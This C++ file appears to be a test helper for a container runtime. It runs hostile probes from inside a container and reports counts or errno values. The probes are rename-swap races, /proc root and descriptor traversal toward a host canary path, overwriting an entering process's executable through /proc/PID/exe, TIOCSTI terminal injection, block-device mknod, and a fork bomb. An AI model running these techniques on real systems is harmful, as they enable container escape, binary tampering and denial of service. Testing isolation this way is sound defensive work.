// SPDX-License-Identifier: Apache-2.0
// What a hostile program inside a container tries, one verb a call. Static, so that it runs in any root file system.
//     exchange A B SECONDS    swaps two names as fast as it can; prints how often
//     spy SECONDS CANARY      looks for the path CANARY through root, folder and descriptors of every process that appears
//     overwrite SECONDS       tries to open /proc/PID/exe of every process for writing, and to keep it
//     push-back TEXT          puts TEXT into the input of its terminal (TIOCSTI)
//     socket DOMAIN           makes a socket; prints the errno
//     unshare FLAGS           unshare(2); prints the errno
//     mknod-read MAJOR MINOR  makes a block device and opens it; prints the errno of both
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>

#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

namespace {

double now() {
    timespec time{};
    ::clock_gettime(CLOCK_MONOTONIC, &time);
    return static_cast<double>(time.tv_sec) + static_cast<double>(time.tv_nsec) * 1e-9;
}

int exchange(const char* a, const char* b, double seconds) {
    unsigned long count = 0;
    for (const double end = now() + seconds; now() < end;)
        for (int i = 0; i < 100; ++i) count += ::renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0 ? 1 : 0;
    std::printf("%lu\n", count);
    return count == 0;
}

template <typename Act>
void each_process(Act act) {
    DIR* folder = ::opendir("/proc");
    while (const dirent* entry = ::readdir(folder)) {
        const int pid = std::atoi(entry->d_name);
        if (pid > 1 && pid != ::getpid()) act(pid);
    }
    ::closedir(folder);
}

/// True when `path`, reached through a process's root, folder or descriptor, is the host's.
bool leads_out(int pid, const char* entry, const char* canary) {
    char path[512];
    std::snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../../../..%s", pid, entry, canary);
    const int fd = ::open(path, O_PATH | O_CLOEXEC);
    if (fd >= 0) ::close(fd);
    return fd >= 0;
}

bool descriptors_lead_out(int pid, const char* canary) {
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR* folder = ::opendir(path);
    if (folder == nullptr) return false;
    bool found = false;
    while (const dirent* entry = ::readdir(folder)) {
        char name[300];
        std::snprintf(name, sizeof name, "fd/%s", entry->d_name);
        found = found || (entry->d_name[0] != '.' && leads_out(pid, name, canary));
    }
    ::closedir(folder);
    return found;
}

/// With CAP_SYS_PTRACE the kernel lets us look at every process that we see; what is found must not lead out of the container.
int spy(double seconds, const char* canary) {
    unsigned long seen = 0, escaped = 0;
    for (const double end = now() + seconds; now() < end;)
        each_process([&](int pid) {
            char path[64], comm[32] = "";
            std::snprintf(path, sizeof path, "/proc/%d/comm", pid);
            const int fd = ::open(path, O_RDONLY);
            if (fd < 0) return;
            (void)!::read(fd, comm, sizeof comm - 1);
            ::close(fd);
            if (std::strncmp(comm, "attacker", 8) == 0 || std::strncmp(comm, "sleep", 5) == 0) return;
            ++seen;
            if (leads_out(pid, "root", canary) || leads_out(pid, "cwd", canary) || descriptors_lead_out(pid, canary))
                ++escaped;
        });
    std::printf("seen %lu escaped %lu\n", seen, escaped);
    return 0;
}

/// The program of somebody who enters this container, or -1. Ours are in /bin.
int open_entering_program() {
    int program = -1;
    each_process([&](int pid) {
        char path[64], name[256] = "";
        std::snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (program >= 0 || ::readlink(path, name, sizeof name - 1) < 0 || std::strncmp(name, "/bin/", 5) == 0) return;
        program = ::open(path, O_RDONLY | O_CLOEXEC);
    });
    return program;
}

/// It is busy while it runs: the attack is to keep it open and to wait until it has ended everywhere.
int overwrite(double seconds) {
    unsigned long opened = 0, written = 0;
    int program = -1;
    for (const double end = now() + seconds; now() < end && written == 0;) {
        if (program < 0) opened += (program = open_entering_program()) >= 0 ? 1 : 0;
        if (program < 0) continue;
        char own[64];
        std::snprintf(own, sizeof own, "/proc/self/fd/%d", program);
        const int writable = ::open(own, O_WRONLY);
        if (writable < 0) continue;
        ++written;
        (void)!::write(writable, "#!/overwritten\n", 15);
        ::close(writable);
    }
    std::printf("opened %lu written %lu\n", opened, written);
    return 0;
}

int push_back(const char* text) {
    for (; *text != '\0'; ++text)
        if (::ioctl(0, TIOCSTI, text) < 0) return errno;
    return 0;
}

int answer(long result) {
    std::printf("%d\n", result < 0 ? errno : 0);
    return 0;
}

int make_and_read(unsigned major, unsigned minor) {
    std::printf("%d ", ::mknod("/tmp/device", S_IFBLK | 0600, makedev(major, minor)) < 0 ? errno : 0);
    const int fd = ::open("/tmp/device", O_RDWR);
    const int result = answer(fd);
    ::unlink("/tmp/device");
    return result;
}

} // namespace

int main(int argc, char** argv) {
    ::setvbuf(stdout, nullptr, _IOLBF, 0);
    const std::string verb = argc > 1 ? argv[1] : "";
    if (verb == "exchange" && argc == 5) return exchange(argv[2], argv[3], std::atof(argv[4]));
    if (verb == "spy" && argc == 4) return spy(std::atof(argv[2]), argv[3]);
    if (verb == "overwrite" && argc == 3) return overwrite(std::atof(argv[2]));
    if (verb == "push-back" && argc == 3) return push_back(argv[2]);
    if (verb == "socket" && argc == 3) return answer(::socket(std::atoi(argv[2]), SOCK_SEQPACKET, 0));
    if (verb == "unshare" && argc == 3) return answer(::unshare(static_cast<int>(std::strtoul(argv[2], nullptr, 0))));
    if (verb == "mknod-read" && argc == 4)
        return make_and_read(static_cast<unsigned>(std::atoi(argv[2])), static_cast<unsigned>(std::atoi(argv[3])));
    if (verb == "fork")
        for (;;) ::fork();
    std::fprintf(stderr, "attacker: unknown verb\n");
    return 2;
}
